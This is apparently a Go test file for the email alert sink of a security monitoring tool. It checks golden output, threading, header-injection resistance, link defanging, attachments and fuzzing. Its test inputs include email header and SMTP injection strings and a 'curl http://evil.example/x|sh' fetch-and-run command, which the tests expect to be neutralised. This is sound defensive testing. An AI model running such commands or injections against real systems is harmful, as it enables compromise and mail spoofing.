package smtp

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/filelessd/filelessd/pkg/report"
	"github.com/filelessd/filelessd/pkg/sink"
	"github.com/filelessd/filelessd/pkg/sink/sinktest"
)

var update = flag.Bool("update", false, "write the golden files")

func at() time.Time { return time.Date(2026, 12, 1, 3, 0, 0, 0, time.UTC) }

func testMailer(t testing.TB, change func(*Config)) *mailer {
	c := Kind.Default()
	c.Address, c.From, c.To = "mail.example:587", "filelessd <filelessd@soc.example>", []string{"SOC <soc@soc.example>", "oncall@soc.example"}
	if change != nil {
		change(&c)
	}
	if err := c.Validate(); err != nil {
		t.Fatal(err)
	}
	m := openMailer(t, c)
	m.now = at
	return m
}

func example(t testing.TB, name string) *report.Report {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("../../../examples/reports", name+".json"))
	if err != nil {
		t.Fatal(err)
	}
	r := new(report.Report)
	if err := json.Unmarshal(data, r); err != nil {
		t.Fatal(err)
	}
	return r
}

// TestGolden keeps what people are shown, to be read by eyes: header and text, and the HTML.
func TestGolden(t *testing.T) {
	m := testMailer(t, func(c *Config) { c.Link = "https://filelessd.example/reports/{id}" })
	for name, r := range map[string]*report.Report{
		"test-unconfirmed": example(t, "test-unconfirmed"), "malicious-likely": example(t, "malicious-likely"),
		"summary": sinktest.Summary(), "loss": sinktest.Loss(), "hostile": sinktest.Hostile(),
	} {
		raw, err := m.message(r, sink.ThreadKey(t.Context(), r))
		if err != nil {
			t.Fatal(err)
		}
		p := parse(t, raw)
		var text strings.Builder
		for _, name := range slices.Sorted(maps.Keys(p.header)) {
			value := p.header.Get(name)
			switch name {
			case "Content-Type":
				value, _, _ = strings.Cut(value, ";") // the boundary is random
			case "Subject":
				value = p.subject
			}
			fmt.Fprintf(&text, "%s: %s\n", name, value)
		}
		golden(t, name+".txt", text.String()+"\n"+p.text)
		golden(t, name+".html", p.html)
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// TestThread: what is about one attack refers to one head, what is about nothing else to none.
func TestThread(t *testing.T) {
	m := testMailer(t, nil)
	first, summary, alone := sinktest.Ordinary(), sinktest.Summary(), sinktest.Loss()
	ctx := sink.WithThreads(t.Context(), map[string]string{first.ID: summary.Group.Key})
	root := "<" + summary.Group.Key + "@soc.example>"
	for r, want := range map[*report.Report]string{first: root, summary: root, alone: ""} {
		raw, err := m.message(r, sink.ThreadKey(ctx, r))
		if err != nil {
			t.Fatal(err)
		}
		h := parse(t, raw).header
		if h.Get("References") != want || h.Get("In-Reply-To") != want || h.Get("Message-Id") != "<"+r.ID+"@soc.example>" {
			t.Errorf("%s: %v", r.Kind, h)
		}
	}
}

// TestHeadersAreOurs: no text of an alert makes a header, ends the header, or is decoded.
func TestHeadersAreOurs(t *testing.T) {
	m := testMailer(t, nil)
	for _, title := range []string{
		"a\r\nBcc: x@evil.example", "a\nX: y\n\n<b>body", "a" + strings.Repeat(" ", 130) + "Bcc: x", strings.Repeat("a ", 200), strings.Repeat("x", 500),
		"=?utf-8?b?PHNjcmlwdD4NCkJjYzogeA==?=", "=?utf-8?q?=0d=0aBcc:_x?= =?utf-8?q?x?=", "é" + strings.Repeat("=?", 50), "\x00\u202e\u2028\xff", "",
	} {
		r := sinktest.Ordinary()
		r.Title, r.Event.Hostname = title, title
		raw, err := m.message(r, title)
		if err != nil {
			t.Fatal(err)
		}
		if err := medium.Inert(r, raw); err != nil {
			t.Errorf("%q: %v", title, err)
		}
		if p := parse(t, raw); strings.Contains(p.subject, "<script>") || !strings.HasPrefix(p.subject, "[filelessd] HIGH Suspicious") {
			t.Errorf("%q: %q", title, p.subject)
		}
	}
}

// TestLinks: no mail program makes a link of what an alert says in the short form.
func TestLinks(t *testing.T) {
	m := testMailer(t, func(c *Config) { c.Report, c.Link = false, "https://filelessd.example/{id}" })
	r := sinktest.Ordinary()
	r.Event.SetField("proc.cmdline", "curl http://evil.example/x|sh")
	raw, err := m.message(r, r.ID)
	if err != nil {
		t.Fatal(err)
	}
	p := parse(t, raw)
	for _, part := range []string{p.text, p.html} {
		if strings.Contains(part, "http://evil") || !strings.Contains(part, "http[://]evil.example/x|sh") || !strings.Contains(part, "https://filelessd.example/"+r.ID) {
			t.Errorf("%s", part)
		}
	}
}

// TestAttachments: those that were asked for, as the program writes them, unless they are too large.
func TestAttachments(t *testing.T) {
	m := testMailer(t, func(c *Config) { c.Attach = []string{"json", "html", "markdown", "text", "ecs", "ocsf", "cef"} })
	r := sinktest.Ordinary()
	raw, err := m.message(r, r.ID)
	if err != nil {
		t.Fatal(err)
	}
	p := parse(t, raw)
	begin := "report-" + r.ID[:12]
	if got, want := slices.Sorted(maps.Keys(p.attachments)), []string{begin + ".cef", begin + ".ecs.json", begin + ".html", begin + ".json", begin + ".md", begin + ".ocsf.json", begin + ".txt"}; !slices.Equal(got, want) {
		t.Errorf("%v", got)
	}
	if err := sinktest.CheckJSON(r, p.attachments[begin+".json"]); err != nil {
		t.Error(err)
	}
	m.env.Render = func(string, *report.Report) ([]byte, error) { return bytes.Repeat([]byte("x\n"), maxAttachment), nil }
	if raw, err = m.message(r, r.ID); err != nil {
		t.Fatal(err)
	}
	p = parse(t, raw)
	if len(p.attachments) != 0 || !strings.Contains(p.text, "attachments left out, too large: json (6144 KB)") ||
		!strings.Contains(p.text, "… cut: 6017 KB more; whole report: filelessd explain "+r.ID) || len(raw) > 5*maxWhole {
		t.Errorf("%d bytes, %d attachments: %.3000s", len(raw), len(p.attachments), p.text)
	}
}

// FuzzMessage: whatever an alert says, the mail has the headers that it should have, and shows text.
func FuzzMessage(f *testing.F) {
	f.Add("node\r\nBcc: x", "=?utf-8?q?a?=", "<a href=x>", "http://x")
	f.Add("\xff\u202e\x00", strings.Repeat(" ", 300), "\r\n.\r\nMAIL FROM:<x>", "--boundary")
	m := testMailer(f, nil)
	f.Fuzz(func(t *testing.T, host, title, cmd, thread string) {
		r := sinktest.Ordinary()
		r.Event.Hostname, r.Title, r.Summary = host, title, title
		r.Event.SetField("proc.cmdline", cmd)
		raw, err := m.message(r, thread)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(host+title+cmd+thread, sinktest.Injected) {
			return // which the rules know as a mark
		}
		if err := medium.Inert(r, raw); err != nil {
			t.Error(err)
		}
	})
}
